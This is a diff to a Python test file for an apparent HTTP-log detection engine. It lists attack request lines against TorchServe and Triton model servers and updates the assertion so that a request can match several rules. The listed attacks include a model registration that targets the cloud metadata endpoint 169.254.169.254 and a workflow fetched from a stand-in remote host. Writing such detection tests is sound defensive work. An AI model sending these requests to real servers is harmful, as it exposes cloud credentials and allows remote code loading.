@@ -194,7 +194,11 @@ AI_EXPLOITS = [
         200,
         "torchserve-register-url",
     ),
-    ("POST /models?url=http://169.254.169.254/latest/meta-data/", 500, "torchserve-register-url"),
+    (
+        "POST /models?url=http://169.254.169.254/latest/meta-data/",
+        500,
+        "torchserve-register-metadata torchserve-register-url",
+    ),
     ("POST /workflows?url=http://198.51.100.200:8888/wf.war", 200, "torchserve-register-url"),
     ("POST /v2/repository/models/pwn/load", 200, "triton-model-control"),
     ("POST /v2/repository/models/pwn/unload", 200, "triton-model-control"),
@@ -247,7 +251,7 @@ def test_public_ai_server_exploits_match_their_rule(target: str, status: int, ru
     Triton) match the rule that names them, alone."""
     event = PARSER.parse(_benign_line(f"{target} HTTP/1.1", status, "python-requests/2.31.0"))
     assert isinstance(event, HttpRequest)
-    assert [r.id for r in MATCHER.match(event)[0]] == [rule_id]
+    assert sorted(r.id for r in MATCHER.match(event)[0]) == rule_id.split()
 
 
 def test_empty_request_line_is_not_malformed() -> None:
